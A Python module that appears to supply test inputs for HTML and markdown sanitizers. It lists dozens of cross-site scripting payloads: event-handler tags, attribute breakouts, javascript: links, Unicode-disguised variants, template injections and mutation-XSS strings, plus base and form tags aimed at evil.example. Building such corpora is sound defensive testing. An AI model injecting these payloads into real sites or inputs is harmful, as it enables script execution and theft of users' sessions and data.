"""Texts that have run scripts where they were shown as markup, by kind. ``@`` stands for a text's number.

Collected after PayloadsAllTheThings (MIT) and OWASP's filter evasion sheet; whichever of them runs says so by ``ran``.
"""

from collections.abc import Iterator, Sequence

TAGS = [
    "<script>ran(@)</script>",
    "<ScRiPt >ran(@)</sCrIpT>",
    "<script/x>ran(@)</script/x>",
    "<<script>ran(@)//<</script>",
    "<scr<script>ipt>ran(@)</scr</script>ipt>",
    "<img src=x onerror=ran(@)>",
    "<img/src=`x`/onerror=ran(@)>",
    "<img src=x\tonerror\t=\tran(@)>",
    "<IMG SRC=x OnErRoR=&#114;&#97;&#110;(@)>",
    "<svg onload=ran(@)>",
    "<svg/onload=ran(@)//",
    "<svg><script>ran(@)</script></svg>",
    "<svg><animate onbegin=ran(@) attributeName=x dur=1s>",
    "<body onload=ran(@)>",
    "<iframe srcdoc='<script>parent.ran(@)</script>'></iframe>",
    "<iframe src=javascript:parent.ran(@)></iframe>",
    "<details open ontoggle=ran(@)>",
    "<video><source onerror=ran(@)>",
    "<audio src=x onerror=ran(@)>",
    "<input autofocus onfocus=ran(@)>",
    "<select autofocus onfocus=ran(@)>",
    "<textarea autofocus onfocus=ran(@)>",
    "<marquee onstart=ran(@)>",
    "<object data=javascript:ran(@)>",
    "<embed src=javascript:ran(@)>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(@)'>",
    "<style onload=ran(@)></style>",
    "<link rel=stylesheet href=x onerror=ran(@)>",
    "<base href=//evil.example/@/>",
    "<form action=//evil.example/@><button autofocus>",
    "<a href=javascript:ran(@)>x</a>",
    "<x tabindex=1 autofocus onfocus=ran(@)>",
]
ATTRIBUTES = [
    '"><script>ran(@)</script>',
    "'><script>ran(@)</script>",
    '" onfocus=ran(@) autofocus x="',
    "' onfocus=ran(@) autofocus x='",
    "` onfocus=ran(@) autofocus x=`",
    '"><svg onload=ran(@)>',
    "'><img src=x onerror=ran(@)>",
    "x onerror=ran(@) src=x",
    "</title><script>ran(@)</script>",
    "</textarea><script>ran(@)</script>",
    "</style><script>ran(@)</script>",
    "</bdi></p><svg onload=ran(@)>",
    "--><script>ran(@)</script>",
    "]]><script>ran(@)</script>",
    '\\"><script>ran(@)</script>',
    "&quot;&gt;&lt;script&gt;ran(@)&lt;/script&gt;",
    "&#60;img src=x onerror=ran(@)&#62;",
]
LINKS = [
    "javascript:ran(@)",
    "JaVaScRiPt:ran(@)//https://cafe.example",
    "java\tscript:ran(@)",
    "data:text/html,<script>ran(@)</script>",
    "[x](javascript:ran(@))",
    "[x](JAVASCRIPT:ran(@))",
    "[x](&#106;avascript:ran(@))",
    "[x](java%0ascript:ran(@))",
    "![x](x onerror=ran(@))",
    '![x](x" onerror="ran(@))',
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)@",
    '[x](https://cafe.example" onmouseover="ran(@))',
    "<javascript:ran(@)>",
    "[x]: javascript:ran(@)",
    "`<img src=x onerror=ran(@)>`",
    "vbscript:ran(@)",
]
DISGUISES = [
    "\u202e>(@)nar=rorreno x=crs gmi<",
    "<\u200bimg src=x onerror=ran(@)>",
    "<img src=x one\u200drror=ran(@)>",
    "\u2066<svg onload=ran(@)>\u2069",
    "\ufeff<script>ran(@)</script>",
    "＜script＞ran(@)＜/script＞",
    "\u061c<img src=x onerror=ran(@)>",
    "أهلًا <b onclick=ran(@)>اضغط</b>",
    "<script>ran(@)</script>",
]
TEMPLATES = [
    "{{constructor.constructor('ran(@)')()}}",
    "${ran(@)}",
    "#{ran(@)}",
    "<%= ran(@) %>",
    "{{7*7}}@",
    "{name.__class__}@",
    "{0.__init__.__globals__}@",
    "%(name)s@",
    "{client}@",
    "__proto__[ran]=@",
]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=ran(@)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=ran(@)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(@)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran(@)>",
    "<template><script>ran(@)</script></template>",
    "<xmp><p title='</xmp><svg onload=ran(@)>'>",
    "<listing>&lt;img src=x onerror=ran(@)&gt;</listing>",
    "<a id=ran><a id=ran name=x href=@>",
]

TEXTS = [
    text.replace("@", str(number))
    for number, text in enumerate(
        [*TAGS, *ATTRIBUTES, *LINKS, *DISGUISES, *TEMPLATES, *MUTATIONS], start=1
    )
]


def pieces(most: int) -> list[str]:
    """All of the texts, one after the other, in as few pieces as fit that many characters; a line each."""
    return list(_pieces(TEXTS, most))


def lines(most: int) -> list[str]:
    """The same without what no single line may hold."""
    return list(_pieces([text.replace("\t", " ") for text in TEXTS], most, " "))


def _pieces(texts: Sequence[str], most: int, joint: str = "\n") -> Iterator[str]:
    piece = ""
    for text in texts:
        if piece and len(piece) + len(joint) + len(text) > most:
            yield piece
            piece = text
        else:
            piece = f"{piece}{joint}{text}" if piece else text
    yield piece
